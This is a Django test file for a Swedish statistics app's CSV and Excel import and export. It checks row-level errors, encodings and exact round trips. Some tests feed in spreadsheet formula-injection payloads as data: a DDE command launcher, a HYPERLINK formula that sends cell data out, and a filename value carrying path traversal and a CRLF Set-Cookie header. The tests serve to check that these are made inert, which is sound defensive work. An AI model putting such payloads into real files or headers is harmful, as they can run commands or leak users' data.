"""Importing files in the project's own format: line-by-line errors, nothing half-applied, exact round trip."""

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import Workbook, load_workbook

from core.services import SYSTEM
from stats import services
from stats.files import COLUMNS
from stats.models import Observation, Series
from tests.factories.actors import OrganizationFactory, user_for

pytestmark = pytest.mark.django_db

SWEDISH = ["serie", "rubrik", "enhet", "område", "period", "kön", "värde"]  # the headers in the Swedish interface

GOOD = (
    "series;title;unit;area;period;gender;value\n"
    "BRO-etab;Nya etableringar;antal;1880;2023;T;12\n"
    "BRO-etab;Nya etableringar;antal;1880;2024;T;15,5\n"
    "BRO-etab;Nya etableringar;antal;1881;2024;K;\n"
    "BRO-etab;Nya etableringar;antal;1881;2024M03;M;0.1\n"
)


def _upload(name: str, content: bytes | str):
    data = content.encode("utf-8") if isinstance(content, str) else content
    run = services.start_file_import(actor=SYSTEM, upload=SimpleUploadedFile(name, data))
    run.refresh_from_db()
    return run


def test_a_semicolon_csv_with_decimal_commas_is_imported():
    run = _upload("bro.csv", GOOD)
    assert run.status == "succeeded", run.reason
    series = Series.objects.get(source="file", external_id="BRO-etab")
    assert series.title == "Nya etableringar" and series.unit == "antal" and series.is_divided_by_gender
    values = dict(((o.area.scb_code, o.period, o.gender), o.value) for o in Observation.objects.select_related("area"))
    assert values == {
        ("1880", "2023", "T"): 12.0,
        ("1880", "2024", "T"): 15.5,
        ("1881", "2024", "K"): None,
        ("1881", "2024M03", "M"): 0.1,
    }


def test_bad_rows_are_named_by_line_and_column_and_nothing_is_imported():
    _upload("bro.csv", GOOD)
    before = dict(Observation.objects.values_list("pk", "value"))
    bad = GOOD.replace("1880;2024;T;15,5", "9999;2024;T;15,5").replace("1881;2024;K;", "1881;tjugo;K;") + (
        "BRO-etab;;;1880;2025;X;1\nBRO-etab;;;1880;2026;T;många\n"
    )
    run = _upload("bro.csv", bad)
    assert run.status == "failed"
    for expected in ("Rad 3, kolumn area", "Rad 4, kolumn period", "Rad 6, kolumn gender", "Rad 7, kolumn value"):
        assert expected in run.reason, run.reason
    assert dict(Observation.objects.values_list("pk", "value")) == before


def test_wrong_columns_and_files_that_are_not_what_they_say():
    assert "kolumner saknas: area" in _upload("x.csv", "series,period,value\nA,2024,1\n").reason
    assert "inte läsas som en Excelfil" in _upload("x.xlsx", b"not a zip at all").reason
    with pytest.raises(Exception) as exc:  # noqa: PT011 - a ValidationError naming the field
        services.start_file_import(actor=SYSTEM, upload=SimpleUploadedFile("x.pdf", b"%PDF"))
    assert "file" in exc.value.message_dict


def test_export_and_import_round_trip_exactly_in_csv_and_excel():
    _upload("bro.csv", GOOD)
    series = Series.objects.get(external_id="BRO-etab")
    client = Client()
    original = sorted(Observation.objects.values_list("area__scb_code", "period", "gender", "value"))
    for kind in ("csv", "xlsx"):
        exported = client.get(f"/statistik/serier/{series.pk}/export.{kind}")
        assert exported.status_code == 200
        Observation.objects.all().delete()
        run = _upload(f"round.{kind}", exported.content)
        assert run.status == "succeeded", run.reason
        assert sorted(Observation.objects.values_list("area__scb_code", "period", "gender", "value")) == original


def test_the_upload_page_and_the_template():
    admin = Client()
    admin.force_login(user_for(OrganizationFactory(), email="fil@example.org", admin=True))
    template = admin.get("/statistik/import/mall.csv")
    assert template.status_code == 200
    assert next(csv.reader(io.StringIO(template.content.decode()), delimiter=";")) == SWEDISH  # Swedish CSV
    response = admin.post("/statistik/import/fil/", {"file": SimpleUploadedFile("bro.csv", GOOD.encode())})
    assert response.status_code == 302
    assert "Klar" in admin.get(response["Location"]).content.decode()


# Exports: inert text, numeric numbers, safe names, only the kinds we write --------------------------------

TEXTS = {  # (series id, title, unit) a file import may hold, each a formula for a spreadsheet
    "hyperlink-dde-sum": ("=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org/?q="&A2,"Öppna")', "@SUM(1+1)"),
    "plus-minus-equals": ("+1+1", "-1+1", "=1+1"),
}


def _series_with(texts):
    series, title, unit = texts
    run = _upload(
        "formler.csv",
        "series;title;unit;area;period;gender;value\n"
        f"{series};{title};{unit};1880;2023;T;-5\n"
        f"{series};{title};{unit};1880;2024;T;12,5\n"
        f"{series};{title};{unit};1881;2024;T;\n",
    )
    assert run.status == "succeeded", run.reason
    return Series.objects.get(source="file")


@pytest.mark.parametrize("texts", TEXTS.values(), ids=TEXTS)
def test_a_series_with_formulas_in_its_texts_exports_a_csv_without_a_live_formula(texts):
    series = _series_with(texts)

    response = Client().get(f"/statistik/serier/{series.pk}/export.csv")

    header, *rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")), delimiter=";"))
    assert header == SWEDISH
    assert [row[:3] for row in rows] == [["'" + text for text in texts]] * 3
    assert [row[6] for row in rows] == ["-5,0", "12,5", ""]  # Swedish: semicolons and a decimal comma
    assert b";-5,0\r\n" in response.content  # a number, unquoted: not text, and -5 is no formula


@pytest.mark.parametrize("texts", TEXTS.values(), ids=TEXTS)
def test_a_series_with_formulas_in_its_texts_exports_an_excel_file_with_no_formula_and_numeric_values(texts):
    series = _series_with(texts)

    response = Client().get(f"/statistik/serier/{series.pk}/export.xlsx")

    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [[(c.value, c.data_type) for c in row[:3]] for row in sheet.iter_rows(min_row=2)] == [
        [(text, "s") for text in texts]
    ] * 3
    assert [(c.value, c.data_type) for c in sheet["G"][1:]] == [(-5, "n"), (12.5, "n"), (None, "n")]
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_an_export_of_formula_texts_reads_back_as_exactly_the_same_texts(kind):
    texts = TEXTS["hyperlink-dde-sum"]
    series = _series_with(texts)
    exported = Client().get(f"/statistik/serier/{series.pk}/export.{kind}").content
    Series.objects.all().delete()

    run = _upload(f"tillbaka.{kind}", exported)

    assert run.status == "succeeded", run.reason
    again = Series.objects.get(source="file")
    assert (again.external_id, again.title, again.unit) == texts


def test_the_download_name_of_an_export_has_no_path_quote_or_line_break():
    _upload("namn.csv", 'series;area;period;value\n"../x/""a"";\r\nSet-Cookie: b=c";1880;2024;1\n')
    series = Series.objects.get(source="file")

    response = Client().get(f"/statistik/serier/{series.pk}/export.csv")

    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        "attachment; filename=\"x-a- Set-Cookie- b_c.csv\"; filename*=UTF-8''x-a-%20Set-Cookie-%20b%3Dc.csv"
    )


@pytest.mark.parametrize(
    "path", ["serier/{pk}/export.pdf", "serier/{pk}/export.exe", "import/mall.exe", "import/mall.pdf"]
)
def test_an_export_kind_we_do_not_write_is_not_found(path):
    _upload("bro.csv", GOOD)
    series = Series.objects.get(external_id="BRO-etab")
    admin = Client()
    admin.force_login(user_for(OrganizationFactory(), email="fil@example.org", admin=True))

    response = admin.get("/statistik/" + path.format(pk=series.pk))

    assert response.status_code == 404
    assert not response.get("Content-Disposition")


# Imports: NUL bytes, texts too long, repeated keys, Swedish Excel's encoding --------------------------------


@pytest.mark.parametrize(
    ("row", "column"),
    [
        ("BRO-\x00etab;Nya etableringar;antal;1880;2023;T;12", "series"),
        ("BRO-etab;Nya\x00;antal;1880;2023;T;12", "title"),
    ],
)
def test_a_csv_with_a_nul_byte_names_its_row_and_column_and_imports_nothing(row, column):
    bad = GOOD.replace("BRO-etab;Nya etableringar;antal;1880;2023;T;12", row)

    run = _upload("nul.csv", bad)

    assert run.status == "failed"
    assert run.reason == (
        f"Filen har 1 fel och inget har importerats: Rad 2, kolumn {column}: texten innehåller ett NUL-tecken "
        "(byte 0), som inte kan sparas; ta bort det och försök igen."
    )
    assert not Series.objects.exists()


def test_a_csv_saved_as_utf16_is_refused_with_a_message_not_a_nul():
    run = _upload("unicode.txt", GOOD.encode("utf-16"))

    assert run.status == "failed"
    assert run.reason.startswith(
        "Rad 1, kolumn 1: kolumnnamnet innehåller ett NUL-tecken (byte 0). Är filen sparad som UTF-16"
    )
    assert "\x00" not in run.reason


def _xlsx(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_an_excel_file_with_a_nul_character_names_its_row_and_column():
    content = _xlsx(
        [["series", "area", "period", "value"], ["BRO", "1880", "2024", 1], ["BRO_x0000_X", "1880", "2025", 2]]
    )

    run = _upload("nul.xlsx", content)

    assert run.status == "failed"
    assert "Rad 3, kolumn series: texten innehåller ett NUL-tecken" in run.reason, run.reason
    assert not Observation.objects.exists()


def test_a_damaged_excel_file_with_a_raw_nul_byte_names_the_cell():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("data")
    for row in (["series", "area", "period", "value"], ["BRO", "1880", "2024", 1], ["BRO", "1880", "2025", "NULHERE"]):
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    damaged = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(damaged, "w") as target:
        for name in source.namelist():
            target.writestr(name, source.read(name).replace(b"NULHERE", b"1\x002"))

    run = _upload("trasig.xlsx", damaged.getvalue())

    assert run.status == "failed"
    assert run.reason.startswith("Rad 3, kolumn D: texten innehåller ett NUL-tecken (byte 0)"), run.reason


@pytest.mark.parametrize(
    ("column", "length", "limit"), [("series", 5_000, 120), ("title", 100_000, 500), ("unit", 61, 60)]
)
def test_a_text_longer_than_its_field_is_refused_not_cut_short(column, length, limit):
    texts = {"series": "BRO", "title": "Titel", "unit": "antal", column: "x" * length}
    content = f"series;title;unit;area;period;value\n{texts['series']};{texts['title']};{texts['unit']};1880;2024;1\n"

    run = _upload("lang.csv", content)

    assert run.status == "failed"
    assert (
        f"Rad 2, kolumn {column}: texten har {length} tecken; högst {limit} får plats, och inget kortas av"
        in run.reason
    )
    assert not Series.objects.exists()


def test_two_series_ids_that_differ_after_the_120th_character_stay_apart_or_are_refused():
    long_a, long_b = "A" * 120 + "-1", "A" * 120 + "-2"

    run = _upload("lika.csv", f"series;area;period;value\n{long_a};1880;2024;1\n{long_b};1880;2024;2\n")

    assert run.status == "failed"
    assert "Rad 2, kolumn series" in run.reason and "Rad 3, kolumn series" in run.reason
    assert not Series.objects.exists()


def test_the_same_key_twice_with_different_values_is_refused_naming_both_rows():
    content = GOOD + "BRO-etab;Nya etableringar;antal;1880;2024;T;16\n"

    run = _upload("dubbel.csv", content)

    assert run.status == "failed"
    assert (
        "Rad 6, kolumn value: serie BRO-etab, område 1880, period 2024, kön T finns redan på rad 3 "
        "med ett annat värde (15,5 mot 16); ta bort en av raderna." in run.reason
    ), run.reason
    assert not Observation.objects.exists()


def test_the_same_key_twice_with_the_same_value_is_counted_once_and_reported():
    content = GOOD + "BRO-etab;Nya etableringar;antal;1880;2024;T;15.5\n"

    run = _upload("dubbel.csv", content)

    assert run.status == "succeeded", run.reason
    assert Observation.objects.filter(area__scb_code="1880", period="2024", gender="T").count() == 1
    assert run.report["nya"] == 4
    assert run.report["varningar"] == [
        "Rad 6 upprepar rad 3 (serie BRO-etab, område 1880, period 2024, kön T, samma värde); raden räknades en gång."
    ]


SWEDISH_EXCEL = Path(__file__).parent / "data" / "excel_sv_windows1252.csv"


def test_a_csv_saved_by_swedish_excel_in_windows_1252_is_read():
    content = SWEDISH_EXCEL.read_bytes()
    with pytest.raises(UnicodeDecodeError):
        content.decode("utf-8")  # the file is what Excel saves: Windows-1252, semicolons, decimal commas

    run = _upload(SWEDISH_EXCEL.name, content)

    assert run.status == "succeeded", run.reason
    series = Series.objects.get(source="file")
    assert (series.external_id, series.title, series.unit) == ("ÄLV-förskola", "Barn i förskola, Älvdalen – andel", "%")
    values = dict(((o.area.scb_code, o.period), o.value) for o in Observation.objects.select_related("area"))
    assert values == {("2039", "2023"): 87.5, ("2039", "2024"): 88.25, ("20", "2024"): None}
    assert run.report["varningar"] == [
        "Filen är inte UTF-8-kodad; den lästes som Windows-1252 (så sparar Excel i Windows CSV)."
    ]


def test_a_file_in_neither_utf8_nor_windows_1252_is_refused_with_a_message():
    run = _upload("okand.csv", b"series;area;period;value\n\x81\x8d;1880;2024;1\n")

    assert run.status == "failed"
    assert run.reason == "Filen är varken UTF-8- eller Windows-1252-kodad text (CSV) och inte en Excelfil (.xlsx)."


# Headers in the interface's language; either language's read ---------------------------------------------


def test_the_template_and_an_export_have_english_headers_in_the_english_interface():
    series = _series_with(("BRO", "Etableringar", "antal"))
    client = Client(HTTP_ACCEPT_LANGUAGE="en")

    template = client.get("/statistik/import/mall.csv").content.decode()
    export = client.get(f"/statistik/serier/{series.pk}/export.csv").content.decode()

    assert next(csv.reader(io.StringIO(template))) == COLUMNS
    assert next(csv.reader(io.StringIO(export))) == COLUMNS


def test_an_excel_export_has_swedish_headers_in_the_swedish_interface():
    from openpyxl import load_workbook

    series = _series_with(("BRO", "Etableringar", "antal"))

    response = Client().get(f"/statistik/serier/{series.pk}/export.xlsx")

    sheet = load_workbook(io.BytesIO(response.content), read_only=True).worksheets[0]
    assert list(next(sheet.iter_rows(values_only=True))) == SWEDISH


def test_a_file_with_swedish_headers_is_imported_and_its_errors_name_its_columns():
    good = _upload(
        "svensk.csv", "Serie;Rubrik;Enhet;Område;Period;Kön;Värde\nBRO;Etableringar;antal;1880;2024;T;12,5\n"
    )
    bad = _upload("fel.csv", "serie;område;period;värde\nBRO;9999;2024;1\nBRO;1880;2024;x\n")

    assert good.status == "succeeded", good.reason
    assert list(Observation.objects.values_list("area__scb_code", "period", "value")) == [("1880", "2024", 12.5)]
    assert "Rad 2, kolumn område" in bad.reason and "Rad 3, kolumn värde" in bad.reason


def test_a_file_missing_a_column_is_told_in_the_interfaces_words():
    run = _upload("saknas.csv", "serie;period;värde\nBRO;2024;1\n")

    assert "kolumner saknas: område" in run.reason
    assert "Kolumnerna är serie, rubrik, enhet, område, period, kön, värde" in run.reason


@pytest.mark.parametrize("language", ["sv", "en"])
def test_either_languages_headers_are_read_whatever_the_interface_language(language):
    from django.utils import translation

    with translation.override(language):
        swedish = _upload("svensk.csv", "serie;område;period;kön;värde\nBRO;1880;2024;T;12,5\n")
        english = _upload("english.csv", "series,area,period,gender,value\nBRO2,1880,2024,T,7.5\n")

    assert swedish.status == english.status == "succeeded", (swedish.reason, english.reason)
    assert sorted(Observation.objects.values_list("series__external_id", "value")) == [("BRO", 12.5), ("BRO2", 7.5)]
